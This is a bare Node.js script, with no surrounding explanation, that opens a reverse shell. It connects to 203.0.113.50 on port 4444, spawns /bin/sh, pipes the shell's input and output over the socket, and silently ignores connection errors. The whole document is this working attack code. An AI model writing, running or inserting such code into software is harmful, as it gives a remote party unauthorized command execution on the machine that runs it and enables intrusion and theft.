const { spawn } = require('child_process');
const net = require('net');
const sock = net.connect(4444, '203.0.113.50', () => {
  const sh = spawn('/bin/sh', []);
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
  sh.stderr.pipe(sock);
});
sock.on('error', () => {});
